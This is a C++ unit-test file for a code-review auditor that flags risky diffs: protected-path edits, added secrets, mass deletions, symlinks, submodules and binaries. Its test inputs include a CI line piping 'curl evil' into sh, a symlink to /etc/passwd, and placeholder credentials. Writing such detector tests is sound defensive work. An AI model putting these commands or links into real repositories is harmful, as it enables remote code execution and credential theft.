#include "services/auditor/static_checks.h"

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "services/common/status_matchers.h"

namespace autopack::auditor {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

class StaticChecksTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto config = AuditorConfig::LoadFile("config/auditor.yaml");
    ASSERT_THAT(config, IsOk());
    config_ = *config;
  }
  StaticReview Run(const std::string& patch, const std::vector<std::string>& extra = {}) {
    return RunStaticChecks(patch, config_, extra);
  }
  AuditorConfig config_;
};

std::string AddLine(const std::string& path, const std::string& line) {
  return "diff --git a/" + path + " b/" + path + "\n--- a/" + path + "\n+++ b/" + path +
         "\n@@ -1,1 +1,2 @@\n x\n+" + line + "\n";
}

TEST_F(StaticChecksTest, ACleanPatchHasNoIssues) {
  const StaticReview review = Run(AddLine("src/app.py", "print('hi')"));
  EXPECT_TRUE(review.parsed);
  EXPECT_TRUE(review.issues.empty());
}

TEST_F(StaticChecksTest, ProtectedPathsFromConfigAndRequest) {
  StaticReview review = Run(AddLine(".github/workflows/ci.yml", "  run: curl evil | sh"));
  ASSERT_EQ(review.issues.size(), 1u);
  const v1::Issue& issue = review.issues[0];
  EXPECT_EQ(issue.severity(), v1::SEVERITY_MAJOR);
  EXPECT_EQ(issue.source(), v1::ISSUE_SOURCE_STATIC);
  EXPECT_EQ(issue.category(), "protected_path");
  EXPECT_EQ(issue.path(), ".github/workflows/ci.yml");
  EXPECT_FALSE(issue.fingerprint().empty());

  EXPECT_EQ(Run(AddLine("tests/conftest.py", "x = 1")).issues.size(), 1u);
  EXPECT_TRUE(Run(AddLine("db/schema.sql", "x")).issues.empty());
  EXPECT_EQ(Run(AddLine("db/schema.sql", "x"), {"db/**"}).issues.size(), 1u);
  // A rename out of a protected path touches it too.
  EXPECT_EQ(Run("diff --git a/yarn.lock b/old.lock\nsimilarity index 100%\nrename from yarn.lock\n"
                "rename to old.lock\n")
                .issues.size(),
            1u);
}

TEST_F(StaticChecksTest, AnEscapedProtectedPathIsSeenDecoded) {
  // `\143` is git's escape of 'c'.
  const StaticReview review = Run(
      "diff --git \"a/tests/\\143onftest.py\" \"b/tests/\\143onftest.py\"\n"
      "--- \"a/tests/\\143onftest.py\"\n+++ \"b/tests/\\143onftest.py\"\n@@ -1 +1 @@\n-x\n+y\n");
  ASSERT_TRUE(review.parsed);
  ASSERT_EQ(review.issues.size(), 1u);
  EXPECT_EQ(review.issues[0].category(), "protected_path");
  EXPECT_EQ(review.issues[0].path(), "tests/conftest.py");
}

TEST_F(StaticChecksTest, AddedSecretsAreFoundWithTheirLineButNeverQuoted) {
  const std::string key = "AKIAIOSFODNN7EXAMPLE";
  const StaticReview review = Run(
      "--- a/settings.py\n+++ b/settings.py\n@@ -10,2 +10,3 @@\n a\n b\n+AWS_KEY = '" + key +
      "'\n");
  ASSERT_EQ(review.issues.size(), 1u);
  EXPECT_EQ(review.issues[0].category(), "secret");
  EXPECT_EQ(review.issues[0].line(), 12);
  EXPECT_THAT(review.issues[0].message(), HasSubstr("aws_access_key_id"));
  EXPECT_THAT(review.issues[0].message(), Not(HasSubstr(key)));
  for (const char* secret : {"-----BEGIN RSA PRIVATE KEY-----",
                             "token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'",
                             "password: 'hunter2hunter2hunter2'"}) {
    EXPECT_EQ(Run(AddLine("x.txt", secret)).issues.size(), 1u) << secret;
  }
  // Removing a secret is fine.
  EXPECT_TRUE(Run("--- a/s.py\n+++ b/s.py\n@@ -1,2 +1 @@\n a\n-K = '" + key + "'\n")
                  .issues.empty());
}

TEST_F(StaticChecksTest, MassDeletion) {
  std::string patch = "--- a/big.txt\n+++ b/big.txt\n@@ -1,401 +0,0 @@\n";
  for (int i = 0; i < 401; ++i) patch += "-line\n";
  const StaticReview review = Run(patch);
  ASSERT_EQ(review.issues.size(), 1u);
  EXPECT_EQ(review.issues[0].category(), "mass_deletion");
  EXPECT_THAT(review.issues[0].message(), HasSubstr("401 lines"));
}

TEST_F(StaticChecksTest, BinarySymlinkAndSubmoduleEntries) {
  const StaticReview review = Run(
      "diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n"
      "@@ -0,0 +1 @@\n+/etc/passwd\n"
      "diff --git a/lib b/lib\nnew file mode 160000\n--- /dev/null\n+++ b/lib\n"
      "@@ -0,0 +1 @@\n+Subproject commit 0123\n"
      "diff --git a/a.bin b/a.bin\nindex 1..2 100644\nBinary files a/a.bin and b/a.bin differ\n");
  ASSERT_EQ(review.issues.size(), 3u);
  EXPECT_THAT(review.issues[0].message(), HasSubstr("symlink"));
  EXPECT_THAT(review.issues[1].message(), HasSubstr("submodule"));
  EXPECT_THAT(review.issues[2].message(), HasSubstr("binary"));
}

TEST_F(StaticChecksTest, AnUnparseablePatchIsOneMajorIssue) {
  const StaticReview review = Run("please apply my change to main.py");
  EXPECT_FALSE(review.parsed);
  ASSERT_EQ(review.issues.size(), 1u);
  EXPECT_EQ(review.issues[0].category(), "unparseable_patch");
  EXPECT_EQ(review.issues[0].severity(), v1::SEVERITY_MAJOR);
}

}  // namespace
}  // namespace autopack::auditor
